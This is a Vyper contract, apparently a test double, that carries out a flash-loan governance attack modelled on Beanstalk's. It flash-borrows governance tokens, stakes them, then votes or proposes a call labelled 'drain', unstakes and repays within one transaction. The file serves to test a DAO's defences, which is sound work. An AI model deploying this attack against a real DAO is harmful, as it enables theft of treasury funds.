# pragma version ~=0.4.3
"""
@title Test double: Beanstalk's attack on the suite's DAO
@custom:contract-name FlashVoteAttacker
@license GNU Affero General Public License v3.0 only
@notice Borrows the governance token in a flash loan, stakes it, and in
        the same transaction votes for (or proposes) a proposal, then
        unstakes and repays. Tests only: the DAO must refuse every step
        that would use the borrowed power.
"""


from ethereum.ercs import IERC20


interface IFlashLender:
    def flashLoan(receiver: address, token: address, amount: uint256, data: Bytes[1024]) -> bool: nonpayable


interface IStaking:
    def stake(amount: uint256): nonpayable
    def unstake(amount: uint256): nonpayable


interface IGovernor:
    def castVote(proposal_id: uint256, support: uint8) -> uint256: nonpayable
    def propose(targets: DynArray[address, 10], values: DynArray[uint256, 10], calldatas: DynArray[Bytes[1024], 10], description: String[2048]) -> uint256: nonpayable


CALLBACK_SUCCESS: constant(bytes32) = keccak256("ERC3156FlashBorrower.onFlashLoan")
# What the callback does with the borrowed power.
VOTE: constant(uint256) = 1
PROPOSE: constant(uint256) = 2


lender: immutable(address)
staking: immutable(address)
governor: immutable(address)


@deploy
def __init__(lender_: address, staking_: address, governor_: address):
    lender = lender_
    staking = staking_
    governor = governor_


@external
def attack(token: address, amount: uint256, action: uint256, proposal_id: uint256):
    """
    @dev Flash-borrows `amount`, then votes for `proposal_id` (action 1) or
         proposes a call to itself (action 2) inside the loan.
    """
    extcall IFlashLender(lender).flashLoan(self, token, amount, abi_encode(action, proposal_id))


@external
def onFlashLoan(initiator: address, token: address, amount: uint256, fee: uint256, data: Bytes[1024]) -> bytes32:
    """
    @dev Stake, use the power, unstake, approve the repayment.
    """
    assert msg.sender == lender, "flash_vote_attacker: not the lender"
    action: uint256 = 0
    proposal_id: uint256 = 0
    action, proposal_id = abi_decode(data, (uint256, uint256))
    extcall IERC20(token).approve(staking, amount)
    extcall IStaking(staking).stake(amount)
    if action == VOTE:
        extcall IGovernor(governor).castVote(proposal_id, 1)
    else:
        extcall IGovernor(governor).propose([self], [0], [b""], "drain")
    extcall IStaking(staking).unstake(amount)
    extcall IERC20(token).approve(lender, amount + fee)
    return CALLBACK_SUCCESS
